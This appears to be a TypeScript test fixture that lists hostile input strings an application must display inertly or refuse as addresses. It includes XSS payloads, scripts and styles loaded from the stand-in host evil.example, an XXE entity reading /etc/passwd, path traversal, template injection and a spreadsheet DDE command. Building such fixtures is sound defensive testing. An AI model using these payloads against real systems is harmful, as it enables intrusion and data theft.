/**
 * Texts that would do something if any of them were taken for markup, a script, a style, an address,
 * a formula, a format string or a path. Each is meant to be shown as it stands.
 */
const RUN = "window.__ran=1";

const MARKUP = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><input type=submit autofocus></form>`,
  `<input onfocus=${RUN} autofocus>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<title></title><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `]]><script>${RUN}</script>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:${RUN}">`,
  `<dateline-map src="//evil.example/x.geojson"></dateline-map>`
];

const ATTRIBUTES = [
  `" onmouseover="${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}" x="`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  "` onmouseover=`" + RUN,
  `x" style="position:fixed;inset:0;background:red`,
  `" srcdoc="<script>${RUN}</script>`,
  `"/><svg/onload=${RUN}>`
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  "blob:https://example.org/x",
  "file:///etc/passwd",
  "ftp://example.org/x",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "/\\evil.example",
  `https://example.org/"onmouseover="${RUN}`,
  `https://example.org/'><script>${RUN}</script>`,
  "https://example.org/ x",
  "https://example.org/\u0000",
  "http:/example.org",
  "https:",
  "about:blank",
  "view-source:https://example.org",
  "intent://x#Intent;scheme=javascript;end",
  "tel:+1",
  "mailto:a@example.org?subject=x"
];

const TEMPLATES = [
  "{{constructor.constructor('window.__ran=1')()}}",
  "${window.__ran=1}",
  "{@html '<script>window.__ran=1</script>'}",
  "<%= window.__ran=1 %>",
  "#{window.__ran=1}",
  "{'text-field': ['get', 'x']}",
  "[[window.__ran=1]]",
  "%s%s%s%n",
  "$& $1 $` $'",
  "\\u003cscript\\u003ewindow.__ran=1\\u003c/script\\u003e"
];

const FORMULAS = [
  '=HYPERLINK("http://evil.example","x")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1"
];

const FORMS = [
  "BEGIN:VEVENT",
  "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil",
  "x;y,z\\n:w",
  '"a","b"\r\n"c"',
  "../../../../etc/passwd",
  "..\\..\\windows\\system32",
  "__proto__",
  "constructor",
  "hasOwnProperty",
  "</title></svg><script>window.__ran=1</script>",
  "url(javascript:window.__ran=1)",
  "expression(window.__ran=1)",
  "*/}</style><script>window.__ran=1</script>"
];

const LETTERS = [
  "\u0000\u0001\u0002",
  "\ud800 lone \udc00",
  "\u202eevitator\u202c",
  "\u2066isolate\u2069",
  "\u200b\u200c\u200d\ufeff",
  "Z\u0334a\u0335l\u0336g\u0337o\u0338".repeat(20),
  "W".repeat(5000),
  "\u2028\u2029",
  "\ufffe\uffff",
  "👩‍👩‍👧‍👦".repeat(50),
  "\u1e9e\u0130\u0131",
  "مرحبا <b>x</b> שלום"
];

/** More than a hundred. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...TEMPLATES,
  ...FORMULAS,
  ...FORMS,
  ...LETTERS
];

/** Those that are no address of a page: a collection that holds one as such is refused. */
export const HOSTILE_ADDRESSES: readonly string[] = [...MARKUP, ...ATTRIBUTES, ...ADDRESSES, ...TEMPLATES];
